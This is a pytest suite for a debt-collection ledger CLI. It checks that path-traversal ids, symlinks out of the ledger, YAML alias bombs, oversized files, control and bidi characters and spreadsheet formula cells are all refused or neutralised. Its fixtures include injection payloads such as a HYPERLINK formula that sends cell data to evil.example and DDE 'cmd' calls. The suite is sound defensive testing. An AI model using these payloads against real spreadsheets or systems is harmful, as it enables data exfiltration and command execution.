"""Hostile input: paths out of the ledger, symlinks, YAML bombs, huge files, control characters, formula cells.

Each case is refused or neutralised with a clear message, exits 1 or 2 (or 0 where the input is
harmless once neutralised), prints no traceback, and writes nothing outside the ledger.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import time
import traceback
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dunning import importer
from dunning.cli.app import app
from dunning.importer import MAX_IMPORT_BYTES
from dunning.importer import ImportInputError
from dunning.importer import read_table
from dunning.ledger import LedgerErrors
from dunning.ledger import parse_debtor

DEBTOR = "shenyang-heavy"
SECRET = "root:x:0:0:secret outside the ledger\n"


def digest(folder: Path) -> dict[str, str]:
    """sha256 of every file under a folder (symlinks by target), `.dunning/` (cache and lock) left out."""
    found = {}
    for path in sorted(folder.rglob("*")):
        relative = path.relative_to(folder)
        if relative.parts[0] == ".dunning":
            continue
        if path.is_symlink():
            found[str(relative)] = "-> " + os.readlink(path)
        elif path.is_file():
            found[str(relative)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


class Ran:
    def __init__(self, code: int, stdout: str, stderr: str, seconds: float) -> None:
        self.code, self.stdout, self.stderr, self.seconds = code, stdout, stderr, seconds

    @property
    def output(self) -> str:
        return self.stdout + self.stderr


def run(root: Path, *args: str) -> Ran:
    """`dunning ARGS --ledger ROOT` in this process; a traceback fails the test."""
    start = time.perf_counter()
    result = CliRunner().invoke(app, [*args, "--ledger", str(root)],
                                env={"DUNNING_COLLECTOR": None, "DUNNING_LEDGER": None})
    seconds = time.perf_counter() - start
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        pytest.fail(f"traceback from dunning {' '.join(args)}:\n"
                    + "".join(traceback.format_exception(result.exception)))
    assert "Traceback" not in result.stdout + result.stderr
    return Ran(result.exit_code, result.stdout, result.stderr, seconds)


@pytest.fixture
def ledger(sample_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))  # no git above: writes are not committed
    return sample_copy


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the ledger holding a secret; nothing may be written into it or read from it."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(SECRET, encoding="utf-8")
    return folder


# ---------------------------------------------------------------------------------------------
# ids, template names and evidence names that try to leave the ledger

BAD_IDS = ["../dunning", "../../outside/secret", "/etc/passwd", "shenyang-heavy/../../x", "a\\..\\b"]


@pytest.mark.parametrize("bad_id", BAD_IDS)
def test_ids_that_leave_the_ledger_are_refused_by_every_command(ledger: Path, outside: Path, bad_id: str) -> None:
    before, around = digest(ledger), digest(outside.parent)
    for args in (["show", bad_id], ["log", bad_id, "-t", "call", "--no-commit"], ["pay", bad_id, "100", "--no-commit"],
                 ["plan", bad_id, "-i", "2027-01-31:100", "--no-commit"], ["event", bad_id, "note", "--no-commit"],
                 ["new", bad_id, "--name", "x", "--no-commit"],
                 ["letter", bad_id, "-f", "md", "--record", "--no-commit"],
                 ["history", bad_id], ["export", bad_id, "-o", str(outside / "bundle")],
                 ["deadlines", "--debtor", bad_id]):
        ran = run(ledger, *args)
        assert ran.code == 2, (args, ran.output)
        assert "not a debtor id" in ran.output, (args, ran.output)
    assert digest(ledger) == before
    assert digest(outside.parent) == around


@pytest.mark.parametrize("template", ["../../outside/secret", "/etc/passwd", "zh/../../../x", "..", "zh/reminder",
                                      "reminder.md.j2", "a\\b"])
def test_template_names_that_leave_the_templates_are_refused(ledger: Path, template: str) -> None:
    before = digest(ledger)
    ran = run(ledger, "letter", DEBTOR, "-t", template, "-f", "md", "--record", "--no-commit")
    assert ran.code == 2, ran.output
    assert "not a template name" in ran.output
    assert digest(ledger) == before


@pytest.mark.parametrize("name", ["..\u202egnp.exe", "\x1b[31mred\x07.pdf", "..", ".hidden", "a\nb.pdf",
                                  "CON", "x" * 200 + ".pdf"])
def test_evidence_file_names_are_neutralised(ledger: Path, tmp_path: Path, name: str) -> None:
    source_folder = tmp_path / "from"
    source_folder.mkdir()
    source = source_folder / name if name not in ("..",) else source_folder / "..."
    source.write_bytes(b"scan of a receipt\n")
    ran = run(ledger, "log", DEBTOR, "-t", "call", "--evidence", str(source), "--no-commit")
    assert ran.code == 0, ran.output
    stored = list((ledger / "evidence" / DEBTOR).iterdir())
    assert len(stored) == 1
    kept = stored[0].name
    assert stored[0].resolve().parent == (ledger / "evidence" / DEBTOR).resolve()
    assert not any(c in kept for c in "/\\\x1b\x07\n\u202e") and not kept.startswith(".") and len(kept) <= 100, kept
    assert stored[0].read_bytes() == b"scan of a receipt\n"


@pytest.mark.parametrize("given", ["folder", "missing.pdf", "/dev/null"])
def test_evidence_that_is_no_file_is_refused(ledger: Path, tmp_path: Path, given: str) -> None:
    (tmp_path / "folder").mkdir()
    before = digest(ledger)
    path = given if given.startswith("/") else str(tmp_path / given)
    ran = run(ledger, "log", DEBTOR, "-t", "call", "--evidence", path, "--no-commit")
    assert ran.code == 2, ran.output
    assert "--evidence" in ran.stderr
    assert digest(ledger) == before


def test_evidence_recorded_outside_its_folder_is_an_error_and_never_exported(ledger: Path, outside: Path) -> None:
    path = ledger / "debtors" / f"{DEBTOR}.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "  - at: 2026-11-27T10:00:00+08:00\n    type: note\n"
                    f"    evidence: [../outside/secret.txt, evidence/{DEBTOR}/../../../outside/secret.txt]\n",
                    encoding="utf-8")
    ran = run(ledger, "check")
    assert ran.code == 1
    assert f"evidence must lie under evidence/{DEBTOR}/" in ran.stdout
    ran = run(ledger, "export", DEBTOR, "-o", str(outside.parent / "bundle"), "--as-of", "2026-11-28")
    assert ran.code in (0, 1), ran.output
    leaked = [p for p in (outside.parent / "bundle").rglob("*") if p.is_file() and b"secret outside" in p.read_bytes()]
    assert not leaked


# ---------------------------------------------------------------------------------------------
# symlinks leading out of the ledger


def test_a_debtor_file_that_is_a_symlink_out_of_the_ledger_is_refused(ledger: Path, outside: Path) -> None:
    target = outside / "debtor.yaml"
    target.write_bytes((ledger / "debtors" / f"{DEBTOR}.yaml").read_bytes())
    (ledger / "debtors" / "elsewhere.yaml").symlink_to(target)
    (ledger / "debtors" / "passwd.yaml").symlink_to("/etc/passwd")
    before, around = digest(ledger), digest(outside)
    ran = run(ledger, "check")
    assert ran.code == 1
    for name in ("elsewhere", "passwd"):
        assert any(line.startswith(f"debtors/{name}.yaml:1:1: ") and "symbolic link" in line
                   for line in ran.stdout.splitlines()), ran.stdout
    for args in (["show", "elsewhere"], ["log", "elsewhere", "-t", "call", "--no-commit"],
                 ["pay", "elsewhere", "5", "--no-commit"],
                 ["letter", "elsewhere", "-f", "md", "--record", "--no-commit"],
                 ["age"], ["show", "passwd"]):
        ran = run(ledger, *args)
        assert ran.code in (1, 2), (args, ran.output)
        assert "symbolic link" in ran.output or "unknown debtor" in ran.output, (args, ran.output)
    assert digest(outside) == around
    assert digest(ledger) == before


def test_an_evidence_file_that_is_a_symlink_out_of_the_ledger_is_an_error_and_never_exported(
        ledger: Path, outside: Path) -> None:
    folder = ledger / "evidence" / "jilin-huafeng"
    recorded = folder / "ems-receipt-1186532470913.txt"
    recorded.unlink()
    recorded.symlink_to(outside / "secret.txt")
    ran = run(ledger, "check")
    assert ran.code == 1
    assert "evidence must lie under evidence/jilin-huafeng/" in ran.stdout
    ran = run(ledger, "export", "jilin-huafeng", "-o", str(outside.parent / "bundle"), "--as-of", "2026-11-28")
    assert ran.code in (0, 1), ran.output
    assert not [p for p in (outside.parent / "bundle").rglob("*") if p.is_file() and b"secret" in p.read_bytes()]


def _link_evidence_folder(ledger: Path, outside: Path) -> None:
    folder = ledger / "evidence" / "jilin-huafeng"
    moved = outside / "evidence"
    folder.rename(moved)
    folder.symlink_to(moved)


def test_a_new_evidence_file_is_never_copied_through_a_symlinked_folder(ledger: Path, outside: Path,
                                                                        tmp_path: Path) -> None:
    _link_evidence_folder(ledger, outside)
    scan = tmp_path / "scan.pdf"
    scan.write_bytes(b"%PDF scan")
    before, around = digest(ledger), digest(outside)
    ran = run(ledger, "log", "jilin-huafeng", "-t", "call", "--evidence", str(scan), "--no-commit")
    assert ran.code == 1  # the debtor's evidence already fails check: the writer stops before looking at the scan
    assert "leads outside the ledger" in ran.stderr
    assert digest(outside) == around
    assert digest(ledger) == before


def test_a_new_evidence_file_is_never_copied_into_a_symlinked_folder_no_event_names_yet(
        ledger: Path, outside: Path, tmp_path: Path) -> None:
    (ledger / "evidence" / DEBTOR).symlink_to(outside)  # check passes: no event of this debtor names evidence
    scan = tmp_path / "scan.pdf"
    scan.write_bytes(b"%PDF scan")
    before, around = digest(ledger), digest(outside)
    ran = run(ledger, "log", DEBTOR, "-t", "call", "--evidence", str(scan), "--no-commit")
    assert ran.code == 2
    assert "leads outside the ledger" in ran.stderr
    assert digest(outside) == around
    assert digest(ledger) == before


def test_check_refuses_an_evidence_folder_that_is_a_symlink_out_of_the_ledger(ledger: Path, outside: Path) -> None:
    _link_evidence_folder(ledger, outside)
    ran = run(ledger, "check")
    assert ran.code == 1
    refused = [line for line in ran.stdout.splitlines() if "leads outside the ledger" in line]
    named = (ledger / "debtors" / "jilin-huafeng.yaml").read_text(encoding="utf-8").count("evidence/jilin-huafeng/")
    assert len(refused) == named >= 1, ran.stdout
    assert all(re.fullmatch(r"debtors/jilin-huafeng\.yaml:\d+:\d+: events\[\d+\]\.evidence\[\d+\]: evidence/"
                            r"jilin-huafeng/ leads outside the ledger \(a symbolic link\): evidence must lie in the "
                            r"ledger \(move the folder in, in place of the link\)", line) for line in refused), refused


def test_export_reads_nothing_through_an_evidence_folder_that_is_a_symlink_out_of_the_ledger(
        ledger: Path, outside: Path) -> None:
    _link_evidence_folder(ledger, outside)
    bundle = outside.parent / "bundle"
    ran = run(ledger, "export", "jilin-huafeng", "-o", str(bundle), "--as-of", "2026-11-28")
    assert ran.code == 0, ran.output
    assert not (bundle / "jilin-huafeng" / "evidence").exists()
    case = (bundle / "jilin-huafeng" / "bundle.md").read_text(encoding="utf-8")
    reason = "leads outside the ledger (a symbolic link): not read, nothing of it is in this bundle (`dunning check` " \
             "reports it)"
    assert f"- 警告 Warning: evidence/jilin-huafeng/ {reason}" in case
    receipt = "evidence/jilin-huafeng/ems-receipt-1186532470913.txt"
    assert f"`{receipt}`: 未读取 not read: evidence/jilin-huafeng/ {reason}" in case
    assert f"| evidence/jilin-huafeng/ | (not read) |  | no: {reason} |" in case
    assert str(outside) not in case


def test_export_reads_nothing_through_a_letters_folder_that_is_a_symlink_out_of_the_ledger(
        ledger: Path, outside: Path) -> None:
    (ledger / "letters").mkdir(exist_ok=True)
    (ledger / "letters" / DEBTOR).symlink_to(outside)
    bundle = outside.parent / "bundle"
    ran = run(ledger, "export", DEBTOR, "-o", str(bundle), "--as-of", "2026-11-28")
    assert ran.code == 0, ran.output
    assert not [p for p in bundle.rglob("*") if p.is_file() and b"secret outside" in p.read_bytes()]
    assert f"- 警告 Warning: letters/{DEBTOR}/ leads outside the ledger" in (bundle / DEBTOR / "bundle.md").read_text(
        encoding="utf-8")


def test_a_template_override_that_is_a_symlink_is_refused(ledger: Path, outside: Path) -> None:
    (outside / "reminder.md.j2").write_text("LEAKED {{ debtor.name }}\n", encoding="utf-8")
    (ledger / "templates" / "zh").mkdir(parents=True)
    (ledger / "templates" / "zh" / "reminder.md.j2").symlink_to(outside / "reminder.md.j2")
    ran = run(ledger, "check")
    assert ran.code == 1
    assert "templates/zh/reminder.md.j2:1:1: is a symbolic link" in ran.stdout
    ran = run(ledger, "letter", DEBTOR, "-t", "reminder", "-f", "md", "-o", "-", "--as-of", "2026-11-28")
    assert "LEAKED" not in ran.stdout
    assert ran.code == 1  # refused, not silently drafted from the built-in reminder instead
    assert ran.stdout == ""
    assert ("dunning: error: templates/zh/reminder.md.j2: is a symbolic link or leads outside the ledger: refused; "
            "templates must be plain files inside the ledger (`dunning check` reports it)") in ran.stderr


@pytest.mark.parametrize("link", ["templates", "templates/zh"])
def test_a_templates_folder_that_is_a_symlink_out_of_the_ledger_is_refused(ledger: Path, outside: Path,
                                                                           link: str) -> None:
    (outside / "zh").mkdir()
    (outside / "zh" / "reminder.md.j2").write_text("LEAKED {{ debtor.name }}\n", encoding="utf-8")
    (ledger / link).parent.mkdir(parents=True, exist_ok=True)
    (ledger / link).symlink_to(outside if link == "templates" else outside / "zh")
    before = digest(ledger)
    ran = run(ledger, "letter", DEBTOR, "-t", "reminder", "-f", "md", "--as-of", "2026-11-28", "--record",
              "--no-commit")
    assert "LEAKED" not in ran.output
    assert ran.code == 1
    assert "dunning: error: templates/zh/reminder.md.j2: is a symbolic link or leads outside the ledger" in ran.stderr
    assert digest(ledger) == before
    ran = run(ledger, "letter", DEBTOR, "-t", "demand", "-f", "md", "-o", "-", "--as-of", "2026-11-28")
    assert ran.code == 0, ran.output  # a template the ledger does not have is the built-in one
    ran = run(ledger, "check")
    assert ran.code == 1
    expected = ("templates:1:1: leads outside the ledger (a symbolic link): `dunning letter` refuses its templates; "
                "templates must be plain files inside the ledger" if link == "templates" else
                "templates/zh:1:1: is a symbolic link; templates must be plain files inside the ledger")
    assert expected in ran.stdout.splitlines(), ran.stdout
    assert "LEAKED" not in ran.output


@pytest.mark.parametrize("link", ["letters", f"letters/{DEBTOR}", f"letters/{DEBTOR}/2026-11-30-reminder.md"])
def test_a_letters_folder_that_is_a_symlink_out_of_the_ledger_is_not_written_through(ledger: Path, outside: Path,
                                                                                    link: str) -> None:
    (ledger / link).parent.mkdir(parents=True, exist_ok=True)
    (ledger / link).symlink_to(outside / "secret.txt" if link.endswith(".md") else outside)
    before, around = digest(ledger), digest(outside)
    ran = run(ledger, "letter", DEBTOR, "-f", "md", "--as-of", "2026-11-30", "--record", "--no-commit")
    assert digest(outside) == around
    assert digest(ledger) == before
    assert ran.code == 2
    assert ran.stdout == ""
    assert (f"dunning: error: letters/{DEBTOR}/2026-11-30-reminder.md leads outside the ledger (a symbolic link): "
            "nothing written; remove the link, or give -o") in ran.stderr


def test_a_letter_goes_where_an_explicit_output_says_even_outside_the_ledger(ledger: Path, outside: Path) -> None:
    ran = run(ledger, "letter", DEBTOR, "-f", "md", "--as-of", "2026-11-30", "-o", str(outside / "draft.md"))
    assert ran.code == 0, ran.output
    assert (outside / "draft.md").read_text(encoding="utf-8").strip()


# ---------------------------------------------------------------------------------------------
# YAML bombs, huge files, deep nesting

def _alias_bomb(levels: int = 10, width: int = 10) -> str:
    lines = ["a0: &a0 [" + ", ".join(["lol"] * width) + "]"]
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * width) + "]")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("where", ["top", "name", "invoices", "event", "summary"])
def test_a_yaml_alias_bomb_is_refused_quickly(ledger: Path, where: str) -> None:
    bomb = _alias_bomb()
    last = "a9"
    text = {
        "top": f"name: x\n{bomb}",
        "name": f"{bomb}name: *{last}\n",
        "invoices": "name: x\nterms_days: 30\nanchors:\n" + "".join("  " + line + "\n" for line in bomb.splitlines())
                    + f"invoices: *{last}\n",
        "event": "name: x\nterms_days: 30\nevents:\n  - &e {at: 2026-01-01, type: note}\n" + "  - *e\n" * 300,
        "summary": f"name: x\nx: &s [{', '.join(['lol'] * 100)}]\nevents:\n"
                   + "".join("  - {at: 2026-01-01, type: note, summary: *s}\n" for _ in range(300)),
    }[where]
    (ledger / "debtors" / "bomb.yaml").write_text(text, encoding="utf-8")
    start = time.perf_counter()
    with pytest.raises(LedgerErrors) as refused:
        parse_debtor(text, "debtors/bomb.yaml")
    assert time.perf_counter() - start < 5
    assert all(e.file == "debtors/bomb.yaml" and e.line >= 1 for e in refused.value.errors)
    ran = run(ledger, "check")
    assert ran.code == 1 and ran.seconds < 10
    assert "debtors/bomb.yaml:" in ran.stdout


def test_a_50_mb_debtor_file_is_refused_quickly(ledger: Path) -> None:
    huge = ledger / "debtors" / "huge.yaml"
    with huge.open("wb") as stream:
        stream.write(b"name: x\nterms_days: 30\ninvoices:\n")
        row = b"  - {id: I, issued: 2025-01-01, amount: 1}\n"
        stream.write(row * (50 * 1024 * 1024 // len(row)))
    for args in (["check"], ["show", "huge"], ["log", "huge", "-t", "call", "--no-commit"], ["age"]):
        ran = run(ledger, *args)
        assert ran.code in (1, 2), (args, ran.output)
        assert ran.seconds < 10, (args, ran.seconds)
        refused = r"debtors/huge\.yaml:1:1: file is \d+ MB; a ledger file may hold at most \d+ MB"
        assert re.search(refused, ran.output), ran.output


@pytest.mark.parametrize("nesting", [b"[" * 10_000, b"[" * 10_000 + b"]" * 10_000, b"{a: " * 10_000,
                                     b"".join(b" " * i + b"- \n" for i in range(2_000))])
def test_deeply_nested_yaml_is_refused(ledger: Path, nesting: bytes) -> None:
    (ledger / "debtors" / "deep.yaml").write_bytes(b"name: x\nevents: " + nesting + b"\n")
    ran = run(ledger, "check")
    assert ran.code == 1 and ran.seconds < 10
    assert "debtors/deep.yaml:" in ran.stdout
    assert "nested deeper than" in ran.stdout or "YAML:" in ran.stdout


def test_a_50_mb_import_file_is_refused_before_it_is_read_row_by_row(ledger: Path, tmp_path: Path) -> None:
    export = tmp_path / "应收明细.csv"
    with export.open("w", encoding="utf-8") as stream:
        stream.write("客户名称,发票号,开票日期,到期日,价税合计\n")
        stream.writelines(f"大连海运有限公司,INV-{i},2026-09-01,2026-10-01,1000.00\n" for i in range(800_000))
    before = digest(ledger)
    ran = run(ledger, "import", str(export), "--dry-run")
    assert ran.code == 2, ran.output
    assert ran.seconds < 5
    assert f"at most {MAX_IMPORT_BYTES // 1024 // 1024} MB" in ran.stderr
    assert digest(ledger) == before


@pytest.fixture
def few_rows(monkeypatch: pytest.MonkeyPatch) -> int:
    """The row limit lowered to 50, so that a test of it need not write 100,000 rows."""
    monkeypatch.setattr(importer, "MAX_IMPORT_ROWS", 50)
    return 50


def test_an_import_with_too_many_rows_is_refused_at_the_limit(few_rows: int) -> None:
    header = "客户名称,发票号,开票日期,到期日,价税合计\n"
    row = "x,I,2026-09-01,2026-10-01,1\n"
    assert len(read_table((header + row * (few_rows - 1) + "\n,,,,\n" * 100).encode(), "ok.csv").rows) == 250
    with pytest.raises(ImportInputError) as refused:
        read_table((header + row * few_rows).encode(), "many.csv")
    assert refused.value.messages == [
        f"many.csv: more than {few_rows:,} rows; an import file may hold at most {MAX_IMPORT_BYTES // 1024 // 1024} "
        f"MB and {few_rows:,} rows: split the export (by period or by customer) and import the parts one after "
        "another (importing a part again changes nothing)"]


def test_an_xlsx_with_too_many_rows_is_refused_without_reading_them_all(few_rows: int) -> None:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("应收")
    sheet.append(["客户名称", "发票号", "开票日期", "到期日", "价税合计"])
    for i in range(few_rows * 40):
        sheet.append(["x", f"I{i}", "2026-09-01", "2026-10-01", 1])
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(ImportInputError) as refused:
        read_table(buffer.getvalue(), "many.xlsx")
    assert f"many.xlsx: more than {few_rows:,} rows in sheet 应收;" in refused.value.messages[0]


# ---------------------------------------------------------------------------------------------
# control characters and right-to-left marks

@pytest.mark.parametrize("bad_id", ["evil\u202egnp", "evil\x1b[2J", "evil\x00", "evil\n", "évil", "EVIL"])
def test_ids_with_control_or_bidi_characters_are_refused(ledger: Path, bad_id: str) -> None:
    before = digest(ledger)
    ran = run(ledger, "new", bad_id, "--name", "x", "--no-commit")
    assert ran.code == 2 and "not a debtor id" in ran.output
    assert digest(ledger) == before


TERMINAL_HAZARDS = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u200f", "\r")


@pytest.mark.parametrize(("name", "contact", "refused"), [
    ("Evil\x1b[2J\x1b]0;owned\x07 Co\u202egnp.exe", "王", "name: control character U+001B is not allowed in a name"),
    ("Evil Co\u202egnp.exe", "王", "name: bidirectional control U+202E is not allowed in a name"),
    ("Evil Co", "\x1b[31m王\u2066", "contacts[0].name: control character U+001B is not allowed in a name"),
])
def test_control_and_bidi_characters_in_names_never_reach_the_terminal_raw(ledger: Path, name: str, contact: str,
                                                                          refused: str) -> None:
    before = digest(ledger)
    ran = run(ledger, "new", "evil", "--name", name, "--contact", contact, "--no-commit")
    assert ran.code == 2
    assert ran.stderr == f"dunning: error: {refused}\n"
    assert digest(ledger) == before
    # written by hand instead: the file does not load, and the error shows no raw character either
    by_hand = f"name: {json.dumps(name)}\ncontacts:\n  - name: {json.dumps(contact)}\n"  # YAML reads JSON escapes
    (ledger / "debtors" / "evil.yaml").write_text(by_hand, encoding="utf-8")
    for args in (["show", "evil", "--as-of", "2026-11-28"], ["age", "--all", "--as-of", "2026-11-28"], ["check"]):
        shown = run(ledger, *args)
        assert shown.code == 1, (args, shown.output)
        assert "debtors/evil.yaml:1:1: name: " in shown.output or "debtors/evil.yaml:3:5: contacts[0].name: " in \
            shown.output, (args, shown.output)
        assert not any(h in shown.output for h in TERMINAL_HAZARDS), (args, shown.output)


# ---------------------------------------------------------------------------------------------
# formula injection: a spreadsheet export brought in, then reports exported back to CSV

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "=1+1", "\t=1+1", "\r=1+1"]


def _neutralised(cell: str) -> bool:
    """OWASP: a cell a spreadsheet would run as a formula starts with a quote instead; numbers stay numbers."""
    if not cell or cell[0] not in "=+-@\t\r":
        return True
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return False
    return True


def _assert_csv_neutralised(text: str, where: str) -> int:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    dangerous = [cell for cell in cells if not _neutralised(cell)]
    assert not dangerous, (where, dangerous)
    return sum(1 for cell in cells if cell[:1] == "'")


def test_formula_cells_imported_from_a_spreadsheet_are_neutralised_in_every_csv_export(ledger: Path,
                                                                                      tmp_path: Path) -> None:
    export = tmp_path / "应收明细.csv"
    rows = [["客户名称", "发票号", "合同号", "开票日期", "到期日", "价税合计", "地区", "行业", "备注"]]
    for n, formula in enumerate(FORMULAS):
        rows.append([f"{formula} 公司{n}", f"{formula.strip()[:1]}INV-{n}", formula, "2026-09-01", "2026-10-01",
                     "1000.00", formula, formula, formula])
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    export.write_text(buffer.getvalue(), encoding="utf-8")
    ran = run(ledger, "import", str(export), "--no-commit")
    assert ran.code == 0, ran.output
    out = tmp_path / "out"
    out.mkdir()
    quoted = 0
    for name, args in {
        "age.csv": ["age", "--as-of", "2026-11-28"], "age-invoice.csv": ["age", "--by", "invoice", "--as-of",
                                                                       "2026-11-28"],
        "age-region.csv": ["age", "--by", "region", "--as-of", "2026-11-28"],
        "age-industry.csv": ["age", "--by", "industry", "--as-of", "2026-11-28"],
        "deadlines.csv": ["deadlines", "--all", "--as-of", "2026-11-28"],
        "report.csv": ["report", "--by", "region", "--as-of", "2026-11-28"],
        "risk.csv": ["risk", "--as-of", "2026-11-28"],
        "agenda.csv": ["agenda", "--date", "2026-11-30"],
    }.items():
        ran = run(ledger, *args, "-o", str(out / name))
        assert ran.code == 0, (name, ran.output)
        quoted += _assert_csv_neutralised((out / name).read_text(encoding="utf-8"), name)
    for debtor in sorted(p.stem for p in (ledger / "debtors").glob("*.yaml")):
        if "公司" in (ledger / "debtors" / f"{debtor}.yaml").read_text(encoding="utf-8").split("\n", 1)[0]:
            ran = run(ledger, "show", debtor, "-f", "csv", "--as-of", "2026-11-28")
            assert ran.code == 0, ran.output
            quoted += _assert_csv_neutralised(ran.stdout, f"show {debtor}")
    assert quoted >= 3 * len(FORMULAS)  # the names, invoice ids and contracts really went through as quoted text
    bundle = tmp_path / "bundle"
    ran = run(ledger, "export", "--all", "--redact", "-o", str(bundle), "--as-of", "2026-11-28")
    assert ran.code == 0, ran.output
    for path in bundle.rglob("*"):
        if path.suffix.lower() == ".csv":
            _assert_csv_neutralised(path.read_text(encoding="utf-8"), str(path))
        assert path.suffix.lower() not in (".xlsx", ".xls"), path


# ---------------------------------------------------------------------------------------------
# writers killed with kill -9 (bench/soak.py kills hundreds; this is the rule it relies on)

def test_the_next_write_clears_every_temporary_file_a_killed_writer_left(ledger: Path) -> None:
    debtors = ledger / "debtors"
    stale = [debtors / f".{DEBTOR}.yaml.4242.tmp", debtors / ".anshan-xinda.yaml.777.tmp"]
    for path in stale:
        path.write_text("name: half of a file that was being writ", encoding="utf-8")
    kept = [debtors / ".notes.tmp", debtors / ".anshan-xinda.yaml.abc.tmp", ledger / ".x.yaml.1.tmp"]
    for path in kept:
        path.write_text("not a writer's temporary file\n", encoding="utf-8")
    ran = run(ledger, "log", DEBTOR, "-t", "call", "--no-commit")
    assert ran.code == 0, ran.output
    assert not any(path.exists() for path in stale)
    assert all(path.exists() for path in kept)
    assert run(ledger, "check").code == 0
